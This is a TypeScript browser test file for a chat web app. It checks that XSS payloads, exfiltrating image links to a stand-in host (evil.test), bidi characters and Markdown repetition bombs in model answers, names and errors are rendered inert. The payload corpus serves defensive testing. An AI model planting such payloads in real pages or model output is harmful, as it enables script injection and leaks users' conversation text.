/**
 * Whatever a colleague, a model or an error says: nothing of it runs, nothing is loaded from elsewhere, and no link leads
 * anywhere but to the web.
 */
import type { Locator, Page } from 'playwright-core';
import { beforeAll, expect, it } from 'vitest';
import { httpError, text } from '../../support/model/model-script.js';
import type { Person } from '../../support/service.js';
import { newcomer } from '../../support/threads.js';
import { describeWeb } from '../browser.js';
import { answered, answers, goTo, seen } from './pages.js';

const corpus: readonly string[] = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  '<svg onload="window.hacked = 1"><animate onbegin="window.hacked = 1"/></svg>',
  '<iframe src="https://evil.test/frame"></iframe>',
  '<style>@import "https://evil.test/style"; * { display: none }</style>',
  '<form action="https://evil.test/form"><button>Send</button></form>',
  '<a href="javascript:window.hacked = 1">raw</a>',
  '[a link](javascript:window.hacked=1)',
  '[another](JaVaScRiPt:window.hacked=1 "title")',
  '[data](data:text/html,<script>parent.hacked=1</script>)',
  '[v](vbscript:msgbox)',
  '<javascript:window.hacked=1>',
  '![secret](https://evil.test/pixel?words=secret)',
  '![x](data:image/svg+xml,<svg/onload=window.hacked=1>)',
  '[![nested](https://evil.test/nested)](https://evil.test/target)',
  '![by reference][pic]\n\n[pic]: https://evil.test/reference',
  '```html\n<script>window.hacked = 1</script>\n```',
  '```"><img/src=x/onerror=window.hacked=1>\ncode\n```',
  '<details open ontoggle="window.hacked = 1">x</details>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
  '[^1]\n\n[^1]: <img src=x onerror=window.hacked=1>',
  '\u202egnirts desrever\u202c and \u200binvisible',
];
const all = corpus.join('\n\n');

describeWeb('hostile texts in the browser', (world) => {
  let person: Person;
  let page: Page;
  const foreign: string[] = [];
  beforeAll(async () => {
    person = await newcomer(world.service, { name: '<img src=x onerror=window.hacked=1>' });
    page = await world.signedIn(person);
    page.on('request', (request) => {
      if (!request.url().startsWith(world.service.url)) foreign.push(request.url());
    });
  });

  it('run no script from a model, a message or a name', async () => {
    world.service.model.enqueue([text(all)]);
    const { threadId } = await person.rest.readyThread({
      text: all,
      name: '<b onclick=x>\u202e<script>window.hacked=1',
    });
    await goTo(page, `/threads/${threadId}`);
    await answered(page);
    await seen(page, 'secret (not loaded: https://evil.test/pixel?words=secret)');
    expect(await answers(page).innerText()).toContain(corpus[0]);
    expect(await page.evaluate('window.hacked')).toBeUndefined();
    expect(foreign).toEqual([]);
    expect(await linksOf(page)).toEqual([]);
    expect(await answers(page).locator('script, img, iframe, style, form, svg:not(button svg, a svg)').count()).toBe(0);
    expect(await page.title()).toBe('<b onclick=x><script>window.hacked=1 · Skein');
  });

  it('run no script while the text arrives character by character', async () => {
    world.service.model.enqueue([...all].map((character) => text(character)));
    const { threadId } = await person.rest.createThread({ text: 'Say it' });
    await goTo(page, `/threads/${threadId}`);
    await answered(page);
    expect(await page.evaluate('window.hacked')).toBeUndefined();
    expect(foreign).toEqual([]);
  });

  it('are shown as they were written where they repeat more than Markdown can hold', async () => {
    const repeated = [
      '=\n'.repeat(45_000).trim(),
      '>'.repeat(20_000),
      '1. '.repeat(7_000),
      '*_a'.repeat(13_000),
      '> [^a]: '.repeat(3_000),
    ];
    for (const words of repeated) {
      world.service.model.enqueue([text(words)]);
      const { threadId } = await person.rest.readyThread({ text: 'Repeat' });
      await goTo(page, `/threads/${threadId}`);
      await expect.poll(() => answers(page).locator('.plain').allTextContents()).toEqual([words]);
    }
    const code = [`php\n${'A'.repeat(50_000)}`, `cpp\n${'a\n'.repeat(25_000)}`];
    world.service.model.enqueue([text(code.map((block) => `\`\`\`${block}\n\`\`\``).join('\n\n'))]);
    const { threadId } = await person.rest.readyThread({ text: 'Repeat' });
    await goTo(page, `/threads/${threadId}`);
    await expect.poll(() => answers(page).locator('code').first().textContent()).toMatch(/^A{50000}$/m);
    await page.getByRole('textbox', { name: 'Message', exact: true }).fill('Go on', { timeout: 10_000 });
    // Only the footnotes are not told beforehand.
    await expect.poll(() => world.problems).toEqual([expect.stringContaining('Maximum call stack size exceeded')]);
    world.problems.splice(0);
  });

  it('run no script from an error', async () => {
    world.service.model.enqueue([httpError(400, { message: corpus[1] ?? '' })]);
    const { threadId } = await person.rest.createThread({ text: 'Fail' });
    await goTo(page, `/threads/${threadId}`);
    await seen(page, 'The assistant failed.');
    expect(await page.evaluate('window.hacked')).toBeUndefined();
    expect(foreign).toEqual([]);
  });
});

/** The links of the answer that lead elsewhere than to the web or to a footnote of the same text, or tell the web too much. */
async function linksOf(page: Page): Promise<string[]> {
  const links = await answers(page).locator('.rich a').all();
  const bad: string[] = [];
  for (const link of links) {
    const [href, rel] = [await link.getAttribute('href'), await link.getAttribute('rel')];
    if (href?.startsWith('#') && (await inSameText(link, href.slice(1)))) continue;
    if (!href?.startsWith('https://') || rel !== 'noopener noreferrer nofollow') bad.push(`${href} ${rel}`);
  }
  return bad;
}

function inSameText(link: Locator, id: string): Promise<boolean> {
  return link.evaluate(
    (element, wanted) => element.closest('.rich')?.contains(document.getElementById(wanted)) ?? false,
    id,
  );
}
